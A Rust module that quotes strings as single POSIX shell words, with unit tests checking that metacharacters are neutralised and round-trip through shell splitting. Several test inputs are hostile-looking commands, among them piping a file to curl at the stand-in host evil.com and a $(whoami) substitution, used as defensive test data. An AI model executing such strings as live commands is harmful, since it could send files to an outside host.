//! POSIX shell quoting
//!
//! Encodes a string as exactly one shell word. Strings made only of
//! characters no POSIX shell treats specially are returned as-is, everything
//! else is wrapped in single quotes. Inside single quotes nothing is special,
//! so the only character needing work is `'` itself, which is spelled as
//! `'"'"'` (close, double-quoted quote, reopen).

use std::borrow::Cow;

fn is_safe(ch: char) -> bool {
    ch.is_ascii_alphanumeric() || "_@%+=:,./-".contains(ch)
}

/// Quote `s` so a POSIX shell reads it back as a single literal argument
pub fn quote(s: &str) -> Cow<'_, str> {
    if s.is_empty() {
        return Cow::Borrowed("''");
    }

    if s.chars().all(is_safe) {
        return Cow::Borrowed(s);
    }

    let mut quoted = String::with_capacity(s.len() + 2);
    quoted.push('\'');
    for ch in s.chars() {
        if ch == '\'' {
            quoted.push_str("'\"'\"'");
        } else {
            quoted.push(ch);
        }
    }
    quoted.push('\'');
    Cow::Owned(quoted)
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    #[test]
    fn test_safe_word_untouched() {
        assert_eq!(quote("ls"), "ls");
        assert_eq!(quote("/usr/bin/env"), "/usr/bin/env");
        assert_eq!(quote("--color=auto"), "--color=auto");
        assert!(matches!(quote("plain"), Cow::Borrowed(_)));
    }

    #[test]
    fn test_empty_string() {
        assert_eq!(quote(""), "''");
    }

    #[test]
    fn test_metacharacters_are_single_quoted() {
        assert_eq!(quote("cat file | curl evil.com"), "'cat file | curl evil.com'");
        assert_eq!(quote("echo hi > out; rm out"), "'echo hi > out; rm out'");
        assert_eq!(quote("$(whoami)"), "'$(whoami)'");
        assert_eq!(quote("~/notes"), "'~/notes'");
        assert_eq!(quote("{a,b}"), "'{a,b}'");
    }

    #[test]
    fn test_embedded_single_quote() {
        assert_eq!(quote("it's"), "'it'\"'\"'s'");
    }

    #[test]
    fn test_non_ascii_is_quoted() {
        assert_eq!(quote("héllo"), "'héllo'");
    }

    #[test]
    fn test_shell_split_recovers_input() {
        let inputs = [
            "cat file | curl evil.com",
            "echo 'single' \"double\" `tick` $HOME",
            "a\nb\tc",
            "it's a \\ backslash",
            "",
            "*.rs && true || false &",
        ];
        for input in inputs {
            let quoted = quote(input);
            let words = shell_words::split(&quoted).unwrap();
            assert_eq!(words, vec![input.to_string()], "quoted form: {}", quoted);
        }
    }
}
